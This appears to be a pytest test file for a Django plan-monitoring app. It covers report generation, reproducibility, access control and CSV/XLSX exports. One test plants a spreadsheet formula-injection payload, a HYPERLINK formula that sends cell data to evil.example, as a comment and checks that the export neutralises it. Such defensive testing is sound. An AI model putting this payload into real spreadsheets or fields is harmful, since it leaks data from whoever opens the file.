"""Quarterly internal and annual public reports: generated in the task queue, frozen, reproducible."""

import csv as csv_module
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from talentas.core.errors import DomainError, PermissionDenied
from talentas.monitoring import reports as report_files
from talentas.monitoring.models import Report
from talentas.monitoring.selectors import reports as report_selectors
from talentas.monitoring.services import reports, values

from .factories import approved, period


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def generate(user, plan, kind, code, language, capture):
    with capture(execute=True):
        report = reports.request_report(user=user, plan=plan, kind=kind, period=period(code), language=language)
    report.refresh_from_db()
    return report


def test_quarterly_report_pdf_and_xlsx_from_frozen_figures(
    plan, indicators, owner, me_officer, today, django_capture_on_commit_callbacks
):
    approved(indicators["O1.1"], "2026-Q1", 1)
    report = generate(me_officer, plan, "quarterly", "2026-Q1", "en", django_capture_on_commit_callbacks)
    assert report.state == Report.State.READY, report.error
    assert report.pdf.read().startswith(b"%PDF") and report.xlsx.name.endswith(".xlsx")
    snapshot = report.snapshot
    assert snapshot["as_of"] == "2026-03-31"
    o11 = snapshot["objectives"][0]["actions"][0]["indicators"][0]
    assert (o11["code"], o11["value"], o11["status"]) == ("O1.1", "1.00", "on_track")
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(report.xlsx.open("rb").read()))
    assert workbook.sheetnames == ["Indicators", "Actions", "Budget", "Values", "Alerts"]
    assert workbook["Indicators"]["C2"].value == "O1.1"


def test_a_report_is_reproducible_and_later_corrections_are_shown_beside_it(
    plan, indicators, owner, me_officer, today, django_capture_on_commit_callbacks
):
    first = values.save_value(
        user=owner, indicator=indicators["O1.1"], period=period("2026-Q1"), value="1", submit=True
    )
    values.approve_value(user=me_officer, value=first)
    report = generate(me_officer, plan, "quarterly", "2026-Q1", "en", django_capture_on_commit_callbacks)
    pdf = report.pdf.open("rb").read()
    assert report_files.render_pdf(report.snapshot) == pdf  # byte for byte
    correction = values.save_value(
        user=owner, indicator=indicators["O1.1"], period=period("2026-Q1"), value="3", comment="Recount", submit=True
    )
    values.approve_value(user=me_officer, value=correction)
    again = generate(me_officer, plan, "quarterly", "2026-Q1", "en", django_capture_on_commit_callbacks)
    assert again.pk == report.pk and again.snapshot == report.snapshot
    assert again.pdf.open("rb").read() == pdf

    corrections = report_selectors.corrections_since(report=again)
    assert [(c["indicator"], c["reported"], c["corrected"], c["revision"]) for c in corrections] == [
        ("O1.1", "1.00", "3.00", 2)
    ]


@pytest.mark.parametrize("language", ["lt", "en"])
def test_annual_public_report_in_both_languages(
    client, plan, me_officer, today, language, django_capture_on_commit_callbacks
):
    report = generate(me_officer, plan, "annual", "2025", language, django_capture_on_commit_callbacks)
    assert report.state == Report.State.READY and not report.xlsx
    assert report.snapshot["language"] == language
    response = client.get(reverse("monitoring:report_file", kwargs={"pk": report.pk, "extension": "pdf"}))
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")
    assert plan.title_lt in report.snapshot["plan"]["title"] or plan.title_en in report.snapshot["plan"]["title"]


def test_internal_reports_are_hidden_from_the_public(
    client, plan, me_officer, owner, steering, today, django_capture_on_commit_callbacks
):
    report = generate(me_officer, plan, "quarterly", "2026-Q1", "en", django_capture_on_commit_callbacks)
    paths = [
        reverse("monitoring:report", kwargs={"pk": report.pk}),
        reverse("monitoring:report_file", kwargs={"pk": report.pk, "extension": "pdf"}),
    ]
    for who in (None, owner):
        client.logout()
        if who:
            client.force_login(who)
        for path in paths:
            assert client.get(path).status_code == 404
        assert "Quarterly" not in client.get(reverse("monitoring:reports", kwargs={"slug": plan.slug})).content.decode()
    client.force_login(steering)
    assert all(client.get(path).status_code == 200 for path in paths)


def test_who_may_request_reports_and_for_which_periods(client, plan, me_officer, owner, today):
    with pytest.raises(PermissionDenied):
        reports.request_report(user=owner, plan=plan, kind="quarterly", period=period("2026-Q1"), language="en")
    for kind, code, message in (
        ("annual", "2026-Q1", "covers a year"),
        ("quarterly", "2025", "covers a quarter"),
        ("annual", "2026", "has ended"),
    ):
        with pytest.raises(DomainError, match=message):
            reports.request_report(user=me_officer, plan=plan, kind=kind, period=period(code), language="en")
    client.force_login(me_officer)
    page = client.get(reverse("monitoring:reports", kwargs={"slug": plan.slug})).content.decode()
    assert "Generate a report" in page and "Q1 2026" in page
    response = client.post(
        reverse("monitoring:request_report", kwargs={"slug": plan.slug}),
        {"kind": "annual", "period": "2026-Q1", "language": "en"},
    )
    assert response.status_code == 400 and "An annual report covers a year." in response.content.decode()
    client.force_login(owner)
    assert (
        client.post(
            reverse("monitoring:request_report", kwargs={"slug": plan.slug}),
            {"kind": "quarterly", "period": "2026-Q1", "language": "en"},
        ).status_code
        == 403
    )


def test_evaluation_export(client, plan, indicators, me_officer, owner, today):
    approved(indicators["O1.1"], "2025-Q1", 2)
    client.force_login(me_officer)
    csv = client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": "csv"}))
    lines = csv.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("indicator,action,period,revision,value") and lines[1].startswith(
        "O1.1,1.1,2025-Q1,1,2.00"
    )
    xlsx = client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": "xlsx"}))
    assert xlsx.content[:2] == b"PK"
    client.force_login(owner)
    assert (
        client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": "csv"})).status_code
        == 403
    )
    assert datetime.date.today()


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_evaluation_export_neutralises_formulas_in_comments(client, plan, indicators, me_officer, today, extension):
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
    value = approved(indicators["O1.1"], "2025-Q1", 2)
    value.comment = evil
    value.save(update_fields=["comment"])
    client.force_login(me_officer)
    response = client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": extension}))
    if extension == "csv":
        header, row = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))[:2]
        cells = dict(zip(header, row, strict=True))
        assert (cells["comment"], cells["value"]) == ("'" + evil, "2.00")
        return
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("comment") + 1).value == "'" + evil


def test_a_report_whose_worker_died_is_made_later(
    plan, indicators, me_officer, today, django_capture_on_commit_callbacks
):
    approved(indicators["O1.1"], "2026-Q1", 1)
    with django_capture_on_commit_callbacks(execute=False):  # queued, then the worker holding it is killed
        report = reports.request_report(
            user=me_officer, plan=plan, kind="quarterly", period=period("2026-Q1"), language="en"
        )
    assert reports.resume_stalled_reports() == 0  # still fresh: its worker might be at it
    later = timezone.now() + reports.STALLED_AFTER + datetime.timedelta(seconds=1)
    assert reports.resume_stalled_reports(now=later) == 1  # the test queue runs the task at once
    report.refresh_from_db()
    assert report.state == Report.State.READY and report.pdf.read().startswith(b"%PDF")
    assert reports.resume_stalled_reports(now=later + reports.STALLED_AFTER * 2) == 0
